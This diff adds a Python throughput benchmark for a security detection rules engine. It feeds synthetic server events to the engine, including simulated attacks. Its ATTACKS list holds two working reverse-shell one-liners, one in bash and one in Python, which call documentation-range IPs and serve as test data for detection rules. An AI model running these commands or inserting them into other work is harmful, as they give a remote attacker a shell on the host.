@@ -1,0 +1,201 @@
+"""Rules engine throughput: events/s through the built-in pack on one core.
+
+    .venv/bin/python bench/rules_engine.py [--events 300000] [--batch 1000]
+
+Events are built up front (a realistic data-center mix: process starts, sockets,
+auth and iam, file integrity, DNS, network sensor facts, host metrics and
+heartbeats, with a thin stream of attacks in it) and fed to the engine in
+ingest-sized batches, exactly as the collector's pipeline calls it. Only
+``Engine.process`` is timed. Prints figures; never passes or fails on time.
+Target (issue 6): >= 50,000 events/s.
+"""
+
+from __future__ import annotations
+
+import argparse
+import gc
+import platform
+import random
+import statistics
+import time
+from typing import Any
+
+from canhgac.timeutil import from_epoch
+from collector.detect.engine import Engine, EngineLimits
+from collector.detect.loader import BUILTIN_DIR, builtin_packs, load_paths
+
+T0 = 1_790_000_000.0
+HOSTS = [f"srv-{i:03d}" for i in range(200)]
+CTX = {"system": {"id": "cong-dvc", "name": "Cổng dịch vụ công", "level": 3},
+       "unit": {"name": "Sở Thông tin và Truyền thông"}, "agent": {"id": "a"}}
+
+COMMANDS = [
+    "/usr/sbin/nginx -g daemon off;",
+    "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000",
+    "/bin/sh -c /usr/lib/php/sessionclean",
+    "/usr/bin/find /var/log -name *.gz -mtime +30 -delete",
+    "/usr/bin/rsync -a --delete /srv/data/ backup01:/backup/srv/data/",
+    "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/"
+    "postgresql/15/main/postgresql.conf",
+    "/usr/bin/java -Xms2g -Xmx4g -jar /opt/portal/portal.jar --spring.profiles.active=prod",
+    "sshd: admin [priv]",
+    "/usr/bin/curl -fsS https://repo.example.vn/health",
+    "/usr/bin/systemctl status nginx",
+    "nc -zv db-01 5432",
+    "/bin/bash /usr/local/bin/backup.sh --full --target /mnt/backup",
+]
+ATTACKS = [
+    "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
+    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",443));"
+    "os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")'",
+]
+FILES = ["/etc/nginx/nginx.conf", "/var/www/html/index.php", "/usr/bin/ls", "/etc/hosts",
+         "/opt/app/settings.py", "/etc/resolv.conf", "/var/lib/app/cache.db",
+         "/etc/passwd", "/etc/cron.d/logrotate"]
+FILE_WEIGHTS = [20, 30, 5, 5, 10, 5, 23, 1, 1]  # account and cron files change rarely
+
+
+def _base(rng: random.Random, dataset: str, i: int, **fields: Any) -> dict[str, Any]:
+    host = rng.choice(HOSTS)
+    doc: dict[str, Any] = {
+        "@timestamp": from_epoch(T0 + i * 0.001),
+        "ecs": {"version": "8.11.0"},
+        "event": {"kind": "event", "dataset": dataset, "id": f"ev-{i}", "module": "canhgac"},
+        "host": {"hostname": host, "os": {"type": "linux"}},
+        "agent": {"id": f"agent-{host}", "type": "canhgac"},
+        "canhgac": CTX,
+    }
+    for key, value in fields.items():
+        if key == "event":
+            doc["event"].update(value)
+        else:
+            doc[key] = value
+    return doc
+
+
+def make_event(rng: random.Random, i: int) -> dict[str, Any]:
+    r = rng.random()
+    if r < 0.33:
+        attack = rng.random() < 0.0005
+        cmd = rng.choice(ATTACKS) if attack else rng.choice(COMMANDS)
+        exe = cmd.split()[0] if cmd.startswith("/") else "/usr/bin/" + cmd.split()[0]
+        return _base(rng, "process", i, event={"category": ["process"], "type": ["start"]},
+                     process={"pid": rng.randint(100, 99999), "command_line": cmd,
+                              "executable": exe, "name": exe.rsplit("/", 1)[-1],
+                              "parent": {"pid": 1}},
+                     user={"name": rng.choice(["root", "www-data", "postgres", "admin"])})
+    if r < 0.36:
+        return _base(rng, "socket", i, event={"type": [rng.choice(["start", "end"])]},
+                     server={"ip": rng.choice(["0.0.0.0", "127.0.0.1", "10.1.2.3"]),
+                             "port": rng.choice([22, 80, 443, 5432, 8080, 4444])},
+                     network={"transport": "tcp"})
+    if r < 0.53:
+        failure = rng.random() < 0.3
+        attacker = failure and rng.random() < 0.5
+        if attacker:
+            ip = f"203.0.113.{rng.randint(1, 20)}"
+        else:
+            ip = f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 254)}"
+        return _base(rng, "auth", i,
+                     event={"category": ["authentication"], "type": ["start"],
+                            "action": rng.choice(["ssh_login", "ssh_login", "sudo", "su"]),
+                            "outcome": "failure" if failure else "success"},
+                     user={"name": rng.choice(["root", "admin", "oracle", "deploy"])},
+                     source={"ip": ip, "port": rng.randint(1024, 65535)},
+                     process={"name": "sshd"})
+    if r < 0.532:
+        etype = rng.choice([["user", "creation"], ["user", "change"], ["group", "creation"]])
+        return _base(rng, "iam", i, event={"category": ["iam"], "type": etype,
+                                          "action": "user_modified"},
+                     user={"name": f"u{rng.randint(1, 50)}", "id": str(rng.randint(0, 2000))})
+    if r < 0.64:
+        return _base(rng, "file", i, event={"category": ["file"],
+                                           "type": [rng.choice(["change", "creation"])]},
+                     file={"path": rng.choices(FILES, FILE_WEIGHTS)[0], "hash": {"sha256": "ab" * 32},
+                           "mode": "0644", "owner": "root"})
+    if r < 0.74:
+        return _base(rng, "dns", i, dns={"question": {"name": f"host{rng.randint(1, 500)}.gov.vn",
+                                                      "type": "A"}})
+    if r < 0.77:
+        action = rng.choices(["port_scan", "arp_spoof", "dns_query"], [1, 1, 50])[0]
+        return _base(rng, "network", i, event={"action": action},
+                     source={"ip": f"10.20.0.{rng.randint(1, 30)}"})
+    if r < 0.95:
+        return _base(rng, "host.metrics", i, event={"kind": "metric"},
+                     host={"hostname": rng.choice(HOSTS), "cpu": {"usage": rng.random()}})
+    return _base(rng, "agent.health", i, event={"kind": "state"})
+
+
+class Clock:
+    def __init__(self) -> None:
+        self.now = T0
+
+    def __call__(self) -> float:
+        return self.now
+
+
+def run(n: int, batch: int, rounds: int) -> None:
+    loaded = load_paths([(BUILTIN_DIR / p, f"canhgac/{p}") for p in builtin_packs()])
+    rng = random.Random(6)
+    events = [make_event(rng, i) for i in range(n)]
+    batches = [events[i:i + batch] for i in range(0, n, batch)]
+    mix: dict[str, int] = {}
+    for e in events:
+        mix[e["event"]["dataset"]] = mix.get(e["event"]["dataset"], 0) + 1
+
+    print(f"canhgac rules engine benchmark — Python {platform.python_version()}, "
+          f"{platform.machine()}, one core")
+    print(f"rules: {len(loaded)} built-in ({', '.join(builtin_packs())}); "
+          f"events: {n:,} in batches of {batch}")
+    print("mix: " + ", ".join(f"{k} {v * 100 / n:.1f}%" for k, v in sorted(mix.items())))
+    rates = []
+    for r in range(rounds):
+        clock = Clock()
+        engine = Engine([lr.rule for lr in loaded], EngineLimits(), clock=clock)
+        alerts = 0
+        gc.collect()
+        start = time.perf_counter()
+        for b in batches:
+            clock.now += 0.02  # ~50,000 events/s arriving
+            alerts += len(engine.process(b))
+        elapsed = time.perf_counter() - start
+        rates.append(n / elapsed)
+        stats = engine.stats()
+        print(f"  round {r + 1}: {n / elapsed:>10,.0f} events/s  ({elapsed * 1e6 / n:.2f} µs/event)"
+              f"  alerts {alerts}, suppressed {sum(stats['suppressed'].values())}, "
+              f"state keys {sum(stats['state_keys'].values())}")
+    titles = {lr.rule.meta.id: lr.rule.meta.name for lr in loaded}
+    per_rule = sorted(((v, titles[k]) for k, v in stats["alerts"].items() if v), reverse=True)
+    print("alerts by rule (last round): " + ", ".join(f"{name} {v}" for v, name in per_rule))
+    print(f"median: {statistics.median(rates):,.0f} events/s   best: {max(rates):,.0f} events/s"
+          f"   (target 50,000)")
+
+    # The worst case for this pack: only process events (the reverse-shell rule's 9 selections).
+    procs = [e for e in events if e["event"]["dataset"] == "process"]
+    engine = Engine([lr.rule for lr in loaded], EngineLimits())
+    start = time.perf_counter()
+    for i in range(0, len(procs), batch):
+        engine.process(procs[i:i + batch])
+    elapsed = time.perf_counter() - start
+    print(f"process events only (worst case): {len(procs) / elapsed:,.0f} events/s")
+
+    # The floor: the same loop with no rules (dataset lookup only).
+    engine = Engine([], EngineLimits())
+    start = time.perf_counter()
+    for b in batches:
+        engine.process(b)
+    elapsed = time.perf_counter() - start
+    print(f"no rules (dispatch floor):        {n / elapsed:,.0f} events/s")
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("--events", type=int, default=300_000)
+    ap.add_argument("--batch", type=int, default=1000)
+    ap.add_argument("--rounds", type=int, default=3)
+    args = ap.parse_args()
+    run(args.events, args.batch, args.rounds)
+
+
+if __name__ == "__main__":
+    main()
